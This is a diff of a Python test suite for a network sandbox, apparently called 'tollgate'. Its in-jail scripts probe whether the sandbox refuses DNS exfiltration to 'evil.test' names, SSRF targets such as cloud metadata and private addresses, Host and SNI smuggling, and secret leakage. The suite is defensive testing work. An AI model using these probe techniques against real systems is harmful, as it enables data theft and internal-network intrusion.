@@ -63,7 +63,7 @@ class Case:
     def seen(self, what):
         """What the origin saw since the case began."""
         time.sleep(0.1)
-        return [entry for entry in self.laboratory.seen()[self.mark:] if what in entry]
+        return [entry for entry in self.laboratory.seen()[self.mark :] if what in entry]
 
     def run(self, policy, command, options=(), **named):
         work = self.laboratory.folder(self.name)
@@ -71,8 +71,11 @@ class Case:
 
     def inside(self, policy, script, options=(), **values):
         """Runs a script in the jail and gives the run, and what the script told."""
-        run = self.run(policy, [PYTHON, "-c", PRELUDE + script + "\nprint('TOLD ' + json.dumps(told))",
-                                json.dumps(self.ports | values)], options)
+        run = self.run(
+            policy,
+            [PYTHON, "-c", PRELUDE + script + "\nprint('TOLD ' + json.dumps(told))", json.dumps(self.ports | values)],
+            options,
+        )
         told = {}
         for line in run.stdout.decode(errors="replace").splitlines():
             if line.startswith("TOLD "):
@@ -118,8 +121,12 @@ def rule(effect, **keys):
 def protocols(case):
     """HTTP as it comes: chunked, trailers, events as they come, 100-continue, WebSocket, HEAD, what breaks off."""
     ports = case.ports
-    policy = case.policy(rule(["http/request"], host=["api.test"], port=[ports["http"], ports["https"], ports["http2"]]))
-    run, told = case.inside(policy, """
+    policy = case.policy(
+        rule(["http/request"], host=["api.test"], port=[ports["http"], ports["https"], ports["http2"]])
+    )
+    run, told = case.inside(
+        policy,
+        """
 ports = json.loads(sys.argv[1])
 for scheme in ("http", "https"):
     base = f"{scheme}://api.test:{ports[scheme]}"
@@ -164,12 +171,15 @@ for scheme in ("http", "https"):
         told["websocket " + scheme] = [[repr(error)], []]
 base = f"https://api.test:{ports['http2']}"
 told["h2"] = {"echo": curl("--http2", "-d", "a=b", f"{base}/echo"), "events": curl("--http2", "-N", f"{base}/events")}
-""")
+""",
+    )
     for scheme in ("http", "https"):
         got = told.get(scheme, {})
+
         def check(what, good, got=got, scheme=scheme):
             value = got.get(what)
             case.expect(value and good(value), f"{scheme}, {what}: {str(value)[:400]}")
+
         check("chunked", lambda value: value[1] == "".join(f"piece {number}\n" for number in range(5)))
         check("trailers", lambda value: value[0] == 0 and "x-sum: 5" in value[2].lower())
         check("head", lambda value: value[0] == 0 and "200" in value[1] and "content-length: 0" in value[1].lower())
@@ -194,7 +204,9 @@ def answers(case):
     """What servers answer with: no length, early, nothing, packed, nonsense; connections that end unannounced."""
     ports = case.ports
     policy = case.policy(rule(["http/request"], host=["api.test"], port=[ports["http"], ports["https"]]))
-    run, told = case.inside(policy, """
+    run, told = case.inside(
+        policy,
+        """
 ports = json.loads(sys.argv[1])
 import http.client, threading
 for scheme in ("http", "https"):
@@ -214,20 +226,37 @@ for scheme in ("http", "https"):
         statuses.append(response.status)
         time.sleep(0.05 if number % 4 else 0)
     got["one after another"] = statuses
-""")
+""",
+    )
     for scheme in ("http", "https"):
         got = told.get(scheme, {})
         for what, status, words in (
-            ("unannounced", "200", "up to the end"), ("old", "200", "old"), ("hints", "200", "hello from"), ("204", "204", ""),
-            ("304", "304", "etag"), ("cookies", "200", "b=2"), ("packed", "200", "content-encoding: gzip"), ("nonsense", "502", ""),
+            ("unannounced", "200", "up to the end"),
+            ("old", "200", "old"),
+            ("hints", "200", "hello from"),
+            ("204", "204", ""),
+            ("304", "304", "etag"),
+            ("cookies", "200", "b=2"),
+            ("packed", "200", "content-encoding: gzip"),
+            ("nonsense", "502", ""),
             ("split", "502", ""),
         ):
             text = got.get(what, [0, "", ""])[1].lower()
-            case.expect(f" {status} " in text.split("\r\n\r\n")[0] + text and words in text, f"{scheme}, {what}: {str(got.get(what))[:300]}")
-        case.expect(got.get("cookies", [0, ""])[1].lower().count("set-cookie") == 2, f"{scheme}: two cookies became one")
+            case.expect(
+                f" {status} " in text.split("\r\n\r\n")[0] + text and words in text,
+                f"{scheme}, {what}: {str(got.get(what))[:300]}",
+            )
+        case.expect(
+            got.get("cookies", [0, ""])[1].lower().count("set-cookie") == 2, f"{scheme}: two cookies became one"
+        )
         case.expect(got.get("early", [0, ""])[1].endswith("413"), f"{scheme}, early: {got.get('early')}")
-        case.expect("refused by admission" in str(got.get("refused body")), f"{scheme}, a large body that is refused: {str(got.get('refused body'))[:300]}")
-        case.expect(got.get("one after another") == [200] * 12, f"{scheme}, one after another: {got.get('one after another')}")
+        case.expect(
+            "refused by admission" in str(got.get("refused body")),
+            f"{scheme}, a large body that is refused: {str(got.get('refused body'))[:300]}",
+        )
+        case.expect(
+            got.get("one after another") == [200] * 12, f"{scheme}, one after another: {got.get('one after another')}"
+        )
     case.nothing_unknown(run)
 
 
@@ -272,7 +301,9 @@ def streams(case):
     """What is no HTTP: admitted by host and port, refused with a reason, its bytes counted (case 20)."""
     ports = case.ports
     policy = case.policy(rule(["net/connect"], host=["db.test"], port=[ports["echo"]]))
-    run, told = case.inside(policy, """
+    run, told = case.inside(
+        policy,
+        """
 ports = json.loads(sys.argv[1])
 def lines(host, port):
     try:
@@ -299,7 +330,8 @@ size = 0
 while piece := sock.recv(65536):
     size += len(piece)
 told["large"] = size
-""")
+""",
+    )
     case.expect(told.get("allowed") == "hi\n", f"db.test at the allowed port: {told.get('allowed')}")
     case.expect(told.get("upper case and dot") == "hi\n", f"DB.Test.: {told.get('upper case and dot')}")
     case.expect(told.get("large") == 4 << 20, f"4 MiB came back as {told.get('large')}")
@@ -307,21 +339,33 @@ told["large"] = size
         case.expect(str(told.get(what)).endswith("Error"), f"{what}: {told.get(what)!r}")
     receipts = run.of("net/connect")
     allowed = [receipt for receipt in receipts if receipt["decision"] == "allowed"]
-    case.expect(any(receipt["resource"]["to"] == f"db.test:{ports['echo']}" and "3 bytes sent, 3 received" in
-                    receipt["reason"] and "closed" in receipt["reason"] for receipt in allowed),
-                f"no receipt with host, port, bytes and end: {[receipt['reason'] for receipt in allowed]}")
+    case.expect(
+        any(
+            receipt["resource"]["to"] == f"db.test:{ports['echo']}"
+            and "3 bytes sent, 3 received" in receipt["reason"]
+            and "closed" in receipt["reason"]
+            for receipt in allowed
+        ),
+        f"no receipt with host, port, bytes and end: {[receipt['reason'] for receipt in allowed]}",
+    )
     for to in (f"db.test:{ports['other']}", f"denied.test:{ports['echo']}", f"192.0.2.7:{ports['echo']}"):
-        found = [receipt for receipt in receipts if receipt["resource"]["to"] == to and receipt["decision"] == "refused"]
+        found = [
+            receipt for receipt in receipts if receipt["resource"]["to"] == to and receipt["decision"] == "refused"
+        ]
         case.expect(found and found[0]["reason"] and found[0]["hint"], f"no refusal of {to} with its reason and a hint")
-    case.expect(not [entry for entry in case.seen("connected") if entry["connected"] == "other"],
-                "the refused port was connected to")
+    case.expect(
+        not [entry for entry in case.seen("connected") if entry["connected"] == "other"],
+        "the refused port was connected to",
+    )
 
 
 def names(case):
     """No name that is not admitted is looked up outside, whatever way it is asked (case 21)."""
     ports = case.ports
     policy = case.policy(rule(["http/request"], host=["api.test"], port=[ports["http"], ports["https"]]))
-    run, told = case.inside(policy, """
+    run, told = case.inside(
+        policy,
+        """
 ports = json.loads(sys.argv[1])
 base = f"http://api.test:{ports['http']}"
 told["getent"] = subprocess.run(["getent", "hosts", "c2VjcmV0.getent.evil.test"], capture_output=True, text=True).stdout
@@ -352,18 +396,31 @@ try:
     socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 9999))
 except OSError as error:
     told["plain udp"] = repr(error)
-""")
+""",
+    )
     leaked = sorted(name for name in case.laboratory.asked() if "evil" in name)
     case.expect(not leaked, f"looked up outside: {', '.join(leaked)}")
     case.expect(case.laboratory.asked(), "the stub was asked nothing at all, so it shows nothing")
     case.expect("PermissionError" in told.get("plain udp", ""), f"a datagram: {told.get('plain udp')!r}")
     for way in ("getent", "curl", "udp", "redirect"):
-        case.expect([receipt for receipt in run.of("net/resolve", "refused")
-                     if receipt["resource"]["to"] == f"c2vjcmv0.{way}.evil.test"], f"no refused receipt of the name by {way}")
+        case.expect(
+            [
+                receipt
+                for receipt in run.of("net/resolve", "refused")
+                if receipt["resource"]["to"] == f"c2vjcmv0.{way}.evil.test"
+            ],
+            f"no refused receipt of the name by {way}",
+        )
     for way in ("connect", "absolute", "proxy", "proxytls", "sni"):
-        case.expect([receipt for receipt in run.receipts if receipt["decision"] == "refused"
-                     and f"{way}.evil.test" in json.dumps(receipt).lower()], f"no refused receipt that names the host by {way}: "
-                    f"{str(told.get('proxy tls' if way == 'proxytls' else way))[:300]}")
+        case.expect(
+            [
+                receipt
+                for receipt in run.receipts
+                if receipt["decision"] == "refused" and f"{way}.evil.test" in json.dumps(receipt).lower()
+            ],
+            f"no refused receipt that names the host by {way}: "
+            f"{str(told.get('proxy tls' if way == 'proxytls' else way))[:300]}",
+        )
     case.nothing_unknown(run)
 
 
@@ -371,10 +428,14 @@ def reads(case):
     """Reading without writing: git push, DELETE and what GraphQL changes (case 22)."""
     ports = case.ports
     served = [ports["http"], ports["https"]]
-    policy = case.policy(rule(["http/request"], host=["git.test"], port=served, operation=["git/fetch"])
-                         + rule(["http/request"], host=["api.test"], port=served, method=["GET"])
-                         + rule(["http/request"], host=["gql.test"], port=served, operation=["graphql/query"]))
-    run, told = case.inside(policy, """
+    policy = case.policy(
+        rule(["http/request"], host=["git.test"], port=served, operation=["git/fetch"])
+        + rule(["http/request"], host=["api.test"], port=served, method=["GET"])
+        + rule(["http/request"], host=["gql.test"], port=served, operation=["graphql/query"])
+    )
+    run, told = case.inside(
+        policy,
+        """
 import gzip, pathlib
 ports = json.loads(sys.argv[1])
 git = f"https://git.test:{ports['https']}/git/greeting.git"
@@ -425,7 +486,8 @@ told["bad"] = {
     "chunked": gql(mutation, "application/json", "-H", "Transfer-Encoding: chunked"),
     "deep": gql(b'{"query":"mutation ' + b"{a" * 5000 + b"}" * 5000 + b'"}'),
 }
-""")
+""",
+    )
     clone, push = told.get("clone", [1, ""]), told.get("push", [0, ""])
     case.expect(clone[0] == 0 and "hello" in clone[1], f"git clone: {clone}")
     case.expect(told.get("fetch", [1])[0] == 0, f"git fetch: {told.get('fetch')}")
@@ -440,8 +502,10 @@ told["bad"] = {
     for what, status in told.get("bad", {}).items():
         case.expect(status == "403", f"GraphQL, {what}: status {status}, expected 403")
     posts = [entry for entry in case.seen("request") if "/graphql" in entry["request"]]
-    case.expect(len(posts) == len(told.get("good", {})),
-                f"the origin saw {len(posts)} requests of GraphQL, and {len(told.get('good', {}))} were queries")
+    case.expect(
+        len(posts) == len(told.get("good", {})),
+        f"the origin saw {len(posts)} requests of GraphQL, and {len(told.get('good', {}))} were queries",
+    )
     case.nothing_unknown(run)
 
 
@@ -449,9 +513,13 @@ def inward(case):
     """Names and addresses that lead to where no request of a program may go, refused by containment."""
     ports = case.ports
     port = ports["http"]
-    policy = case.policy(rule(["http/request"], host=["any"], port=[port]) + rule(["net/connect"], host=["any"], port=[ports["echo"]]))
+    policy = case.policy(
+        rule(["http/request"], host=["any"], port=[port]) + rule(["net/connect"], host=["any"], port=[ports["echo"]])
+    )
     traps = ["loopback", "metadata", "private", "mapped", "nat64", "sixtofour", "six", "unspecified", "mixed"]
-    run, told = case.inside(policy, """
+    run, told = case.inside(
+        policy,
+        """
 ports = json.loads(sys.argv[1])
 port = ports["http"]
 for name in ports["traps"]:
@@ -462,16 +530,26 @@ for address in ("169.254.169.254", "10.0.0.1", "192.168.1.1", "172.16.0.1", "100
     told[address] = curl(f"http://{address}:{port}/hello")
 for text in ("2130706433", "0x7f000001", "0177.0.0.1", "127.1"):
     told[text] = [0, raw("192.0.2.9", port, f"GET /hello HTTP/1.1\\r\\nHost: {text}:{port}\\r\\n\\r\\n".encode()), ""]
-""", traps=traps)
+""",
+        traps=traps,
+    )
     for what, (_, body, error) in told.items():
         case.expect("hello from" not in body and body != "hi\n", f"{what} was reached")
     for name in traps:
         found = [receipt for receipt in run.of("http/request") if f"//{name}.trap.test" in receipt["resource"]["url"]]
-        case.expect(found and all(receipt["decision"] == "refused" and receipt["decided_by"] == "containment" for receipt in found),
-                    f"{name}: {[(receipt['decision'], receipt['decided_by'], receipt['reason']) for receipt in found]}")
-        found = [receipt for receipt in run.of("net/connect") if receipt["resource"]["to"].startswith(f"{name}.trap.test")]
-        case.expect(found and all(receipt["decision"] == "refused" and receipt["decided_by"] == "containment" for receipt in found),
-                    f"{name}, no HTTP: {[(receipt['decision'], receipt['decided_by'], receipt['reason']) for receipt in found]}")
+        case.expect(
+            found
+            and all(receipt["decision"] == "refused" and receipt["decided_by"] == "containment" for receipt in found),
+            f"{name}: {[(receipt['decision'], receipt['decided_by'], receipt['reason']) for receipt in found]}",
+        )
+        found = [
+            receipt for receipt in run.of("net/connect") if receipt["resource"]["to"].startswith(f"{name}.trap.test")
+        ]
+        case.expect(
+            found
+            and all(receipt["decision"] == "refused" and receipt["decided_by"] == "containment" for receipt in found),
+            f"{name}, no HTTP: {[(receipt['decision'], receipt['decided_by'], receipt['reason']) for receipt in found]}",
+        )
     for entry in case.seen("connected"):
         case.wrong.append(f"a connection arrived at the origin: {entry}")
 
@@ -540,8 +618,20 @@ SHAPES = {
     "address of 1 MiB": "GET /hello?" + "a" * (1 << 20) + " HTTP/1.1|Host: HOST||",
 }
 # Those that have to be refused in words, with a receipt.
-NAMED_WRONG = ["another host", "another port", "two hosts", "whole address of another host", "whole address, other Host",
-               "CONNECT", "no host", "a host in a list", "a host with a name before it", "dots", "encoded dots", "two slashes"]
+NAMED_WRONG = [
+    "another host",
+    "another port",
+    "two hosts",
+    "whole address of another host",
+    "whole address, other Host",
+    "CONNECT",
+    "no host",
+    "a host in a list",
+    "a host with a name before it",
+    "dots",
+    "encoded dots",
+    "two slashes",
+]
 # Those that are proper HTTP, so the first request has to be answered.
 PROPER = ["pipelined", "upgrade that is not taken"]
 
@@ -564,14 +654,20 @@ told["sni of another"] = raw("api.test", ports["https"], f"GET /hello HTTP/1.1\\
 told["sni of another, its Host"] = raw("api.test", ports["https"], f"GET /hello HTTP/1.1\\r\\nHost: other.test:{ports['https']}\\r\\n\\r\\n".encode(), 2, "other.test")
 told["after all"] = curl(f"http://api.test:{ports['http']}/hello")
 """
-    run = case.laboratory.run(work, ["--policy", policy, "--no-apply"],
-                              [PYTHON, "-c", PRELUDE + script + "\nprint('TOLD ' + json.dumps(told))", json.dumps(ports)], timeout=300)
+    run = case.laboratory.run(
+        work,
+        ["--policy", policy, "--no-apply"],
+        [PYTHON, "-c", PRELUDE + script + "\nprint('TOLD ' + json.dumps(told))", json.dumps(ports)],
+        timeout=300,
+    )
     told = {}
     for line in run.stdout.decode(errors="replace").splitlines():
         if line.startswith("TOLD "):
             told = json.loads(line.removeprefix("TOLD "))
     case.expect(told, f"the script in the jail ended early: {run.text[-600:]}")
-    case.expect("hello from" in str(told.get("after all")), f"the door does not answer any more: {told.get('after all')}")
+    case.expect(
+        "hello from" in str(told.get("after all")), f"the door does not answer any more: {told.get('after all')}"
+    )
     for name in PROPER:
         for scheme in ("http", "https"):
             got = told.get(f"{scheme}, {name}", "")
@@ -579,7 +675,10 @@ told["after all"] = curl(f"http://api.test:{ports['http']}/hello")
     for name in NAMED_WRONG:
         for scheme in ("http", "https"):
             got = told.get(f"{scheme}, {name}", "")
-            case.expect(got.split(" ")[1:2] in (["403"], ["400"], ["421"]), f"{scheme}, {name}: not refused in words: {got[:200]!r}")
+            case.expect(
+                got.split(" ")[1:2] in (["403"], ["400"], ["421"]),
+                f"{scheme}, {name}: not refused in words: {got[:200]!r}",
+            )
     for name in ("sni of another", "sni of another, its Host"):
         case.expect("hello from" not in told.get(name, ""), f"{name}: answered")
     case.only_hello()
@@ -668,9 +767,18 @@ def ask(changes):
 for name, changes in json.load(open("frames.json")).items():
     told[name] = ask(changes)
 """
-    run = case.laboratory.run(work, ["--policy", policy, "--no-apply"],
-                              [str(case.laboratory.tools / "venv/bin/python"), "-B", "-c",
-                               PRELUDE + script + "\nprint('TOLD ' + json.dumps(told))", json.dumps(ports)], timeout=200)
+    run = case.laboratory.run(
+        work,
+        ["--policy", policy, "--no-apply"],
+        [
+            str(case.laboratory.tools / "venv/bin/python"),
+            "-B",
+            "-c",
+            PRELUDE + script + "\nprint('TOLD ' + json.dumps(told))",
+            json.dumps(ports),
+        ],
+        timeout=200,
+    )
     told = {}
     for line in run.stdout.decode(errors="replace").splitlines():
         if line.startswith("TOLD "):
@@ -688,28 +796,43 @@ def tunnels(case):
     """TLS that is not opened: its name has to be the one that was connected to."""
     ports = case.ports
     policy = case.policy(rule(["net/connect"], host=["api.test"], port=[ports["https"]]))
-    run, told = case.inside(policy, """
+    run, told = case.inside(
+        policy,
+        """
 ports = json.loads(sys.argv[1])
 def ask(name, host):
     return raw("api.test", ports["https"], f"GET /hello HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n".encode(), 3, name)
 told["same"] = ask("api.test", "api.test")
 told["other"] = ask("other.test", "other.test")
 told["none"] = raw("api.test", ports["https"], b"", 3, "127.0.0.1")
-""")
+""",
+    )
     case.expect("hello from" not in told.get("other", ""), f"SNI of another host went through: {told.get('other')!r}")
-    case.expect(not [entry for entry in case.seen("request") if entry["sni"] == "other.test"],
-                "the origin saw the name of another host")
-    case.expect([receipt for receipt in run.receipts if receipt["decision"] == "refused" and "other.test" in json.dumps(receipt)],
-                "no refused receipt names other.test")
+    case.expect(
+        not [entry for entry in case.seen("request") if entry["sni"] == "other.test"],
+        "the origin saw the name of another host",
+    )
+    case.expect(
+        [
+            receipt
+            for receipt in run.receipts
+            if receipt["decision"] == "refused" and "other.test" in json.dumps(receipt)
+        ],
+        "no refused receipt names other.test",
+    )
 
 
 def disguise(case):
     """HTTP that does not begin as HTTP mostly does, where connections are allowed too: still a request, judged as one."""
     ports = case.ports
     served = [ports["http"], ports["https"]]
-    policy = case.policy(rule(["http/request", "net/connect"], host=["api.test"], port=served)
-                         + '[[deny]]\neffect = ["http/request"]\nhost = ["api.test"]\nmethod = ["DELETE"]\n')
-    run, told = case.inside(policy, """
+    policy = case.policy(
+        rule(["http/request", "net/connect"], host=["api.test"], port=served)
+        + '[[deny]]\neffect = ["http/request"]\nhost = ["api.test"]\nmethod = ["DELETE"]\n'
+    )
+    run, told = case.inside(
+        policy,
+        """
 ports = json.loads(sys.argv[1])
 for scheme in ("http", "https"):
     host = f"api.test:{ports[scheme]}"
@@ -735,7 +858,8 @@ def slowly(port, text):
     except OSError as error:
         return repr(error)
 told["letter by letter"] = slowly(ports["http"], f"DELETE /hello HTTP/1.1\\r\\nHost: api.test:{ports['http']}\\r\\n\\r\\n")
-""")
+""",
+    )
     case.expect("403" in told.get("http, as itself", ""), f"DELETE as itself: {told.get('http, as itself')!r}")
     for entry in case.seen("request"):
         if "delete" in entry["request"].lower() and not entry["request"].startswith("X-"):
@@ -750,14 +874,21 @@ VALUE = 'zq9secret-7f3a"&/+=<b>value'
 def forms(value):
     """How a value may stand in text, whole."""
     plain = value.encode()
-    found = {plain, plain.hex().encode(), plain.hex().upper().encode(), json.dumps(value)[1:-1].encode(),
-             json.dumps(value)[1:-1].replace("/", "\\/").encode(), urllib.parse.quote(value, safe="").encode(),
-             urllib.parse.quote_plus(value).encode(), html.escape(value).encode(),
-             "".join(f"\\u{ord(letter):04x}" for letter in value).encode()}
+    found = {
+        plain,
+        plain.hex().encode(),
+        plain.hex().upper().encode(),
+        json.dumps(value)[1:-1].encode(),
+        json.dumps(value)[1:-1].replace("/", "\\/").encode(),
+        urllib.parse.quote(value, safe="").encode(),
+        urllib.parse.quote_plus(value).encode(),
+        html.escape(value).encode(),
+        "".join(f"\\u{ord(letter):04x}" for letter in value).encode(),
+    }
     for before in range(3):
         # What is the same of it wherever it begins, by the whole groups of three bytes.
         coded = base64.b64encode(b"a" * before + plain)
-        core = coded[4 * ((before + 2) // 3):len(coded) // 4 * 4 - 4]
+        core = coded[4 * ((before + 2) // 3) : len(coded) // 4 * 4 - 4]
         found |= {core, core.replace(b"+", b"-").replace(b"/", b"_")}
     return found
 
@@ -802,7 +933,9 @@ rate = "2/min"
 """)
     laboratory.environment |= {"SOURCE_OF_TOK": VALUE, "SOURCE_OF_RARE": "zq9rare-0123456789"}
     try:
-        run, told = case.inside(policy, """
+        run, told = case.inside(
+            policy,
+            """
 import os, glob, base64
 ports = json.loads(sys.argv[1])
 api, http = f"https://api.test:{ports['https']}", f"http://api.test:{ports['http']}"
@@ -861,58 +994,97 @@ def websocket():
         pass
     return got.decode("latin-1")
 told["websocket"] = websocket()
-""", ["--record"])
+""",
+            ["--record"],
+        )
     finally:
         for name in ("SOURCE_OF_TOK", "SOURCE_OF_RARE"):
             laboratory.environment.pop(name)
     for name, there in told.get("placeholders", {}).items():
         case.expect(there, f"no placeholder in the variable {name}")
-    arrived = [entry for entry in case.seen("request") if holds(json.dumps(entry["headers"]).encode())
-               or holds(entry["request"].encode())]
-    case.expect([entry for entry in arrived if ["authorization", f"Bearer {VALUE}"] in
-                 [[name.lower(), value] for name, value in entry["headers"]]], "the value never arrived at its own origin")
+    arrived = [
+        entry
+        for entry in case.seen("request")
+        if holds(json.dumps(entry["headers"]).encode()) or holds(entry["request"].encode())
+    ]
+    case.expect(
+        [
+            entry
+            for entry in arrived
+            if ["authorization", f"Bearer {VALUE}"] in [[name.lower(), value] for name, value in entry["headers"]]
+        ],
+        "the value never arrived at its own origin",
+    )
     for entry in arrived:
         names = {name.lower() for name, value in entry["headers"] if holds(value.encode())}
         hosts = {value for name, value in entry["headers"] if name.lower() == "host"}
-        case.expect(names == {"authorization"} and entry["scheme"] == "https" and hosts == {f"api.test:{ports['https']}"}
-                    and not holds(entry["request"].encode()) and entry["request"].split(" ")[0] in ("GET", "POST"),
-                    f"the value arrived in {entry['request']!r} at {hosts}, in the headers {sorted(names)}, by {entry['scheme']}")
+        case.expect(
+            names == {"authorization"}
+            and entry["scheme"] == "https"
+            and hosts == {f"api.test:{ports['https']}"}
+            and not holds(entry["request"].encode())
+            and entry["request"].split(" ")[0] in ("GET", "POST"),
+            f"the value arrived in {entry['request']!r} at {hosts}, in the headers {sorted(names)}, by {entry['scheme']}",
+        )
     requests = [entry["request"] for entry in case.seen("request")]
-    case.expect(any("key=zq9file-0123456789&b=1" in urllib.parse.unquote(request) for request in requests), "the file's value did not arrive in the query")
+    case.expect(
+        any("key=zq9file-0123456789&b=1" in urllib.parse.unquote(request) for request in requests),
+        "the file's value did not arrive in the query",
+    )
     pair = base64.b64encode(f"ann:{VALUE}".encode()).decode()
     case.expect(pair in json.dumps(case.seen("request")), "the pair did not arrive")
-    case.expect(told.get("rare") == ["200", "200", told.get("rare", [0, 0, ""])[2]] and told.get("rare", [0, 0, "200"])[2] != "200",
-                f"2 a minute: {told.get('rare')}")
+    case.expect(
+        told.get("rare") == ["200", "200", told.get("rare", [0, 0, ""])[2]]
+        and told.get("rare", [0, 0, "200"])[2] != "200",
+        f"2 a minute: {told.get('rare')}",
+    )
     for what, (status, body, error) in told.get("reflected", {}).items():
         for value in (VALUE, "zq9rare-0123456789"):
-            case.expect(not holds(body.encode(), value), f"{what}: the value came back as {holds(body.encode(), value)}")
+            case.expect(
+                not holds(body.encode(), value), f"{what}: the value came back as {holds(body.encode(), value)}"
+            )
     for what in ("plain", "json", "header", "pieces", "gzip", "deflate", "error", "location"):
         got = told.get("reflected", {}).get(what, [1, "", ""])
-        case.expect(got[0] == 0 and told.get("environment", {}).get("TOK", "-") in got[1],
-                    f"{what}: the placeholder did not come back: {str(got)[:300]}")
+        case.expect(
+            got[0] == 0 and told.get("environment", {}).get("TOK", "-") in got[1],
+            f"{what}: the placeholder did not come back: {str(got)[:300]}",
+        )
     everything = run.stdout + run.stderr.encode()
-    leaked = [what for what, got in told.items() if holds(json.dumps(got, ensure_ascii=False).encode("utf-8", "replace"))
-              or holds(str(got).encode("utf-8", "replace"))]
+    leaked = [
+        what
+        for what, got in told.items()
+        if holds(json.dumps(got, ensure_ascii=False).encode("utf-8", "replace"))
+        or holds(str(got).encode("utf-8", "replace"))
+    ]
     case.expect(not leaked and not holds(everything), f"the program saw the value: {', '.join(leaked)}")
-    case.expect("zq9secret-7f3a" not in told.get("range", ""), f"the value came back in parts by ranges: {told.get('range')!r}")
+    case.expect(
+        "zq9secret-7f3a" not in told.get("range", ""), f"the value came back in parts by ranges: {told.get('range')!r}"
+    )
     for what, got in told.get("elsewhere", {}).items():
         case.expect("refused by" in str(got) or got[0] != 0, f"{what}: not refused: {str(got)[:300]}")
     refused = [receipt for receipt in run.of("http/request", "refused") if receipt["decided_by"] == "secrets"]
     for receipt in refused:
         case.expect("TOK" in receipt["reason"], f"a receipt does not name the secret: {receipt['reason']}")
-    case.expect(len(refused) >= 12, f"{len(refused)} receipts of refusals by `secrets`: {[receipt['reason'][:90] for receipt in refused]}")
+    case.expect(
+        len(refused) >= 12,
+        f"{len(refused)} receipts of refusals by `secrets`: {[receipt['reason'][:90] for receipt in refused]}",
+    )
     for path in (laboratory.scratch / "state").rglob("*"):
         if path.is_file():
             data = path.read_bytes()
             for value in (VALUE, "zq9file-0123456789", "zq9rare-0123456789"):
-                case.expect(not holds(data, value), f"{path.relative_to(laboratory.scratch)} holds a value as {holds(data, value)}")
+                case.expect(
+                    not holds(data, value),
+                    f"{path.relative_to(laboratory.scratch)} holds a value as {holds(data, value)}",
+                )
     absent(case, api)
 
 
 def absent(case, api):
     """A source that is not set makes the secret absent, not empty; and no memory of the run holds a value."""
     laboratory = case.laboratory
-    policy = case.policy(f"""{rule(["http/request"], host=["api.test"], port=[case.ports["https"]])}
+    policy = case.policy(
+        f"""{rule(["http/request"], host=["api.test"], port=[case.ports["https"]])}
 [[secret]]
 name = "NOT_TOK"
 from = {{ env = "NOBODY_SET_THIS" }}
@@ -924,11 +1096,29 @@ name = "TOK"
 from = {{ env = "SOURCE_OF_TOK" }}
 to = ["{api}"]
 place = ["header:Authorization"]
-""", "-absent")
+""",
+        "-absent",
+    )
     script = f"""printenv NOT_TOK || echo absent; curl -sS -H "Authorization: Bearer $TOK" {api}/echo; sleep 3"""
-    process = subprocess.Popen(["tollgate", "run", "--policy", policy, "--no-apply", "--workspace", str(laboratory.folder("absent")),
-                                "--", "sh", "-c", script], env=laboratory.environment | {"SOURCE_OF_TOK": VALUE},
-                               stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    process = subprocess.Popen(
+        [
+            "tollgate",
+            "run",
+            "--policy",
+            policy,
+            "--no-apply",
+            "--workspace",
+            str(laboratory.folder("absent")),
+            "--",
+            "sh",
+            "-c",
+            script,
+        ],
+        env=laboratory.environment | {"SOURCE_OF_TOK": VALUE},
+        stdin=subprocess.DEVNULL,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+    )
     time.sleep(2)
     looked = 0
     for pid in below(process.pid):
@@ -940,7 +1130,9 @@ place = ["header:Authorization"]
     if os.getuid() == 0:
         case.expect(looked > 1 << 20, f"only {looked} bytes of memory could be read, which shows nothing")
     case.expect("Max core file size        0 " in limits, "the supervisor could leave a core file")
-    case.expect(out.startswith(b"absent\n"), f"a secret without a source is there: {out[:200]!r} {error.decode()[-300:]}")
+    case.expect(
+        out.startswith(b"absent\n"), f"a secret without a source is there: {out[:200]!r} {error.decode()[-300:]}"
+    )
     case.expect(not holds(out + error), "the value was printed")
 
 
@@ -981,7 +1173,9 @@ def crowd(case):
     """A hundred connections at once."""
     port = case.ports["http"]
     policy = case.policy(rule(["http/request"], host=["api.test"], port=[port]))
-    run, told = case.inside(policy, """
+    run, told = case.inside(
+        policy,
+        """
 import threading
 ports = json.loads(sys.argv[1])
 gate, got = threading.Barrier(100), []
@@ -996,18 +1190,24 @@ began = time.monotonic()
 for thread in threads: thread.start()
 for thread in threads: thread.join()
 told["got"], told["took"] = got, time.monotonic() - began
-""")
+""",
+    )
     wrong = [got for got in told.get("got", []) if got != "hello from the origin\n"]
     case.expect(len(told.get("got", [])) == 100 and not wrong, f"{len(wrong)} of 100 failed: {wrong[:3]}")
     # One after another they would take 100 seconds.
     case.expect(told.get("took", 100) < 30, f"took {told.get('took')} s, so they were not at once")
-    case.expect(len(run.of("http/request", "allowed")) == 100, f"{len(run.of('http/request', 'allowed'))} receipts of 100 requests")
+    case.expect(
+        len(run.of("http/request", "allowed")) == 100,
+        f"{len(run.of('http/request', 'allowed'))} receipts of 100 requests",
+    )
 
 
 def large(case):
     """256 MiB down and up, by both schemes, with flat memory in the supervisor."""
     ports = case.ports
-    policy = case.policy(rule(["http/request"], host=["api.test"], port=[ports["http"], ports["https"], ports["http2"]]))
+    policy = case.policy(
+        rule(["http/request"], host=["api.test"], port=[ports["http"], ports["https"], ports["http2"]])
+    )
     for scheme, server in (("http", "http"), ("https", "https"), ("https", "http2")):
         base = f"{scheme}://api.test:{ports[server]}"
         peaks = {}
@@ -1017,10 +1217,28 @@ def large(case):
                 ("up", f"head -c {size} /dev/zero | curl -sS -T - {base}/echo -X POST -H Expect:"),
             ):
                 work = case.laboratory.folder(f"large {way}")
-                words = ["tollgate", "run", "--policy", policy, "--no-apply", "--workspace", str(work), "--wall", "300s", "--",
-                         "sh", "-c", command]
-                process = subprocess.Popen(words, env=case.laboratory.environment, stdin=subprocess.DEVNULL,
-                                           stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+                words = [
+                    "tollgate",
+                    "run",
+                    "--policy",
+                    policy,
+                    "--no-apply",
+                    "--workspace",
+                    str(work),
+                    "--wall",
+                    "300s",
+                    "--",
+                    "sh",
+                    "-c",
+                    command,
+                ]
+                process = subprocess.Popen(
+                    words,
+                    env=case.laboratory.environment,
+                    stdin=subprocess.DEVNULL,
+                    stdout=subprocess.PIPE,
+                    stderr=subprocess.PIPE,
+                )
                 peak = 0
                 while process.poll() is None:
                     peak = max(peak, resident_kib(process.pid))
